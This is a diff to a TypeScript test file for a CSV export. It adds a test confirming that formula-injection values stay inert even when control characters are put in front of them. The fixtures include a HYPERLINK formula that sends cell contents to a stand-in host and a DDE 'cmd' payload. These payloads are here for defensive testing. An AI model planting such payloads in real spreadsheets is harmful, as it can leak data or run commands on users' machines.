@@ -1,4 +1,5 @@
 import { CSV_BUYER_COLUMNS, CSV_COLUMNS, guardFormula, quoteCell, renderCsvAnnex } from './csv-annex.js';
+import { looksLikeFormula } from './spreadsheet-text.js';
 import { FIXTURE_KEYS_IN_ORDER, makeSnapshot } from './testing/snapshot.fixture.js';
 
 /** A strict RFC 4180 reader with `;` as separator and CRLF between records, to read the export back. */
@@ -116,5 +117,24 @@ describe('CSV export', () => {
     expect(row[4]).toBe('\'=HYPERLINK("http://ond.example/?x="&A1;"Klik")');
     expect(row[8]).toBe("'@cmd");
     expect(row[5]).toBe("'\n=1+1");
+  });
+
+  it('keeps a formula inert when a control character stands in front of it, in local and bank text alike', () => {
+    const s = makeSnapshot();
+    const local = s.items.find((i) => i.key === 'LOK-1')!;
+    const bank = s.items.find((i) => i.key === 'SIK-014')!;
+    local.title = '\u0001=HYPERLINK("http://ond.example/?x="&A1;"Klik")';
+    local.note = "\u0008@SUM(1+1)*cmd|' /C calc'!A0";
+    bank.statement = '\u0002\u0003+1+1';
+    bank.rationale = '\u007f-2+3';
+    bank.guidance = '\u200b\u0001=1';
+    for (const edition of ['tender', 'buyer'] as const) {
+      const rows = read(renderCsvAnnex(s, edition));
+      for (const row of rows) for (const cell of row) expect(looksLikeFormula(cell)).toBe(false);
+      const row = rows.find((r) => r[0] === 'LOK-1')!;
+      expect(row[4]).toBe('\'=HYPERLINK("http://ond.example/?x="&A1;"Klik")');
+      expect(row[8]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+      expect(rows.find((r) => r[0] === 'SIK-014')![5]).toBe("'+1+1");
+    }
   });
 });
